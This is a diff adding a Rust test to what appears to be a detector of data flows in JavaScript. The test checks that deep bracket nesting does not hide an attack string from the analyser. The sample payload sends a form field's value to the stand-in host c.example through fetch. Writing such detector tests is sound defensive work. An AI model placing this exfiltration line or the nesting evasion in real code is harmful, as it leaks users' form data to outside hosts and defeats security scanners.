@@ -286,3 +286,16 @@ fn unbalanced_text_is_walked_to_its_end() {
         read(&format!("{source};i.src=a.value"));
     }
 }
+
+#[test]
+fn brackets_that_no_browser_parses_hide_nothing_around_them() {
+    let attack = "fetch('//c.example/'+a.value)";
+    for (open, close) in [("(", ")"), ("[", "]"), ("f(", ")"), ("{", "}"), ("a=[", "]"), ("a=>(", ")")] {
+        for depth in [crate::limits::NESTING - 2, crate::limits::NESTING, crate::limits::NESTING + 3] {
+            let nested = format!("{}0{}", open.repeat(depth), close.repeat(depth));
+            for source in [format!("{nested};{attack}"), format!("{attack};{nested}")] {
+                assert_eq!(read(&source), ["Field+Address>Request"], "{depth} times {open}");
+            }
+        }
+    }
+}
